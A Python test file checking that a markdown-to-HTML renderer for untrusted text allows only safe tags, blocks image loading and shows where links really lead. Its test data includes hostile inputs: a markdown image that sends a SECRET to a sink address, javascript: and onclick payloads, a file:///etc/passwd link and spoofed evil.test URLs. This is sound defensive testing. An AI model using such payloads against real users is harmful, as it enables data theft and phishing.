import re
import time
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pages.ui.untrusted import as_html, destination
from tests.hostile import texts

SINK = "http://127.0.0.1:9"
OURS = set(
    "div style p span a em strong s code pre ul ol li blockquote table thead tbody tr th td hr br h4 h5 h6".split()
)
ATTRIBUTES = {"a": {"href", "target", "rel"}, "div": {"class"}, "span": {"class"}, "code": {"class"}, "ol": {"start"}}


class Tags(HTMLParser):
    """Every tag of some HTML with its attributes, as a browser would find them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(page: str) -> None:
    for tag, attributes in Tags(page).found:
        assert tag in OURS
        allowed = ATTRIBUTES.get(tag, {"style"} if tag in ("th", "td") else set())
        assert set(attributes) <= allowed
        assert re.fullmatch(r"(text-align:(left|right|center))?", attributes.get("style") or "")
        assert (attributes.get("href") or "https:").lower().startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("text", texts(SINK))
def test_hostile_texts_become_only_tags_of_ours(text: str) -> None:
    assert_harmless(as_html(text))


@given(st.text(alphabet="![](){}<>\"'`~*_#:/\\&;=-|$@ \nab0", max_size=80))
def test_whatever_the_text_only_tags_of_ours_come_out(text: str) -> None:
    assert_harmless(as_html(text))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"![a cat]({SINK}/?k=SECRET)", "[image from 127.0.0.1:9, not loaded: a cat]"),
        (f"![x][1]\n\n[1]: {SINK}/y", "[image from 127.0.0.1:9, not loaded: x]"),
        ("![x](data:image/png;base64,AAAA)", "[image from the text itself, not loaded: x]"),
        ("![](relative.png)", "[image from an unclear address, not loaded]"),
        ("[https://bank.test](http://evil.test/x)", 'https://bank.test</a> <span class="away">(evil.test)</span>'),
        ("[x][1]\n\n[1]: https://evil.test/y", 'x</a> <span class="away">(evil.test)</span>'),
        ("<https://a.test/y>", 'https://a.test/y</a> <span class="away">(a.test)</span>'),
        ("[own](/history?run=1)", 'own <span class="away">(/history?run=1)</span>'),
        ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
        ("<b onclick=x>", "&lt;b onclick=x&gt;"),
        ("# Title", "<h4>Title</h4>"),
        ("###### Small", "<h6>Small</h6>"),
        ("$x$ :red[y] :smile:", "$x$ :red[y] :smile:"),
        ("one\ntwo", "one<br />\ntwo"),
        ("| a |\n|--:|\n| 1 |", '<td style="text-align:right">1</td>'),
        ("~~old~~ **new**", "<s>old</s> <strong>new</strong>"),
    ],
)
def test_markdown_is_shown_as_what_it_is(text: str, shown: str) -> None:
    assert shown in as_html(text)


@pytest.mark.parametrize(
    ("address", "where"),
    [
        ("https://a.test/path?q", "a.test"),
        ("http://a.test:8080", "a.test:8080"),
        ("http://[::1]:80/", "[::1]:80"),
        ("mailto:ada@lovelace.test", "ada@lovelace.test"),
        ("mailto:ada@lovelace.test?bcc=eve@evil.test", None),
        ("http://bank.test@evil.test/", None),
        ("https://bank.test%40evil.test/", None),
        ("https://b\u0430nk.test/", None),
        ("http:evil.test", None),
        ("http:///evil.test", None),
        ("//evil.test", None),
        ("ftp://a.test", None),
        ("file:///etc/passwd", None),
        ("data:text/html,x", None),
        ("javascript:alert(1)", None),
        ("http://[bad", None),
        ("", None),
        ("https://a.test/" + "x" * 2000, None),
    ],
)
def test_a_link_leads_where_it_says_or_is_none(address: str, where: str | None) -> None:
    assert destination(address) == where


@pytest.mark.parametrize(
    "piece", ["[", "![", "[](", "(", ">", "_", "*", "`", "<", "&", "~", "|a", "- ", "\n> ", "a**b"]
)
def test_no_repetition_takes_long(piece: str) -> None:
    began = time.process_time()
    as_html((piece * 20_000)[:20_000])
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "text",
    ["|a" * 400 + "|\n" + "|-" * 400 + "|\n" + "|\n" * 400, "![" * 10_000, "- a\n" * 5_000, "<![" * 6_000],
    ids=["a table of mostly empty cells", "images", "items", "declarations"],
)
def test_what_would_take_long_to_parse_is_shown_letter_by_letter(text: str) -> None:
    assert as_html(text).endswith(f'<div class="model-text"><pre>{escape(text)}</pre></div>')


def test_a_long_answer_with_a_table_is_still_drawn() -> None:
    row = "| **a** | `b` | [c](https://a.test) |\n"
    page = as_html("# Answer\n\n" + "Some words, *some* of them in italics.\n\n" * 300 + row + "|-|-|-|\n" + row * 40)
    assert page.count("<tr>") == 41
    assert page.count("<em>") == 300
